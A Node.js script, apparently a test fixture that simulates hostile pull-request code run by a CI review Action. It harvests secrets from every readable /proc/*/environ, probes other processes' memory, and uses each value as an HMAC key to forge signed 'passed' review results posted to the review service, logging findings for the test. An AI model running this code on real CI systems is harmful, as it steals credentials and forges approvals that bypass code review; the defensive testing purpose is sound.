// Hostile "test code" from a pull request, run by the review Action as the test command. It reads its parent's
// environment and every /proc/*/environ it can see, tries to open every other process's memory, and signs a
// pass for another work item with each value it found (the callback secret is one of them, if it can be read).
// What it saw goes to $FIXTURES/found.json for the test to judge. Usage: node hostile-test-code.mjs <url> <item> <sha>
import { createHmac } from 'node:crypto';
import { closeSync, openSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';

const [url, item, sha] = process.argv.slice(2);
const values = new Set();
const environsRead = [];
const memoryOpened = [];
const pids = readdirSync('/proc').filter((n) => /^\d+$/.test(n) && Number(n) !== process.pid);
for (const pid of ['self', String(process.ppid), ...pids]) {
  try {
    const environ = readFileSync(`/proc/${pid}/environ`, 'utf8');
    environsRead.push(pid);
    for (const kv of environ.split('\0')) if (kv.includes('=')) values.add(kv.slice(kv.indexOf('=') + 1));
  } catch {
    // EACCES: another uid, or another pid namespace
  }
  if (pid === 'self') continue;
  try {
    closeSync(openSync(`/proc/${pid}/mem`, 'r'));
    memoryOpened.push(pid);
  } catch {
    // EACCES / EPERM
  }
}

let accepted = 0;
const candidates = [...values].filter((v) => v.length >= 8).slice(0, 300);
for (const secret of candidates) {
  const body = JSON.stringify({
    version: 1, workItem: Number(item), repository: 'acme/widgets', headSha: sha, runId: 'forged', runUrl: null, dispatch: null,
    passed: true, exitCode: 0, timedOut: false, durationMs: 1, outputTail: 'all green', outputTruncated: false, tests: null,
  });
  const signature = `sha256=${createHmac('sha256', secret).update(body).digest('hex')}`;
  try {
    const res = await fetch(`${url}/api/v1/review-results`, {
      method: 'POST', body,
      headers: { 'content-type': 'application/json', 'x-damascus-repository': 'acme/widgets', 'x-damascus-signature-256': signature },
    });
    if (res.ok) accepted++;
  } catch {
    // the receiver is gone: nothing to forge
  }
}
writeFileSync(`${process.env.FIXTURES}/found.json`, JSON.stringify({ environsRead, memoryOpened, values: [...values], forgeries: candidates.length, accepted }));
console.log(`hostile tests: read ${environsRead.length} environ files, opened ${memoryOpened.length} other processes' memory, ${accepted} forgeries accepted`);
